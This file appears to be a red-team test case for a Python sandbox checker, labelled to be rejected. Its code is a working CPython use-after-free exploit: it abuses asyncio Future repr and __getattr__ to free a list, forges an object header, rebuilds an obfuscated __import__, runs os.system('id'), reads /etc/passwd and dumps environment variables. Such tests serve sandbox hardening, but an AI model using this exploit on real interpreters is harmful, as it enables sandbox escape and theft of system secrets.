# expect: reject memory
# line: 29
# why: round 97b (red team): a pending Future's repr, run inside a list's C repr of a slice, reads its callbacks' __qualname__ and unwraps __wrapped__, which ran a callback object's __getattr__ that freed the slice (id, /etc/passwd, os.environ); where the program names asyncio, what answers an attribute read (__getattr__, __getattribute__, __get__, a property getter) is a text hook
import asyncio

L = []
ARM = [0]
GBUF = bytearray(1)


def q(v):
    return v.to_bytes(8, "little")


class Fake:
    def __repr__(self):
        raise ValueError(self)


def g():
    return 0


HDR = q(1 << 40) + q(id(Fake))


class Hook:
    def __getattr__(self, name):
        global GBUF
        if len(ARM) > 1:
            ARM.pop()
            L.clear()
            GBUF = bytearray(95)
            GBUF[0:16] = HDR
        raise AttributeError(name)

    def __call__(self, f):
        return None


async def main():
    fut = asyncio.Future()
    fut.add_done_callback(Hook())
    return fut


FUT = asyncio.run(main())
n = 40
L.append(slice(FUT, "q" * n))
ARM.append(1)
try:
    text = repr(L)
    mem = None
    print("no", text)
except ValueError as e:
    mem = e.args[0]
GBUF[8:48] = q(id(list)) + q(2) + q(id(g) + 16) + q(2) + q(0)
bt = mem[1]
imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
osm = imp("os")
osm.system("id")
print(bt["open"]("/etc/passwd").read()[:200])
print(dict(osm.environ))
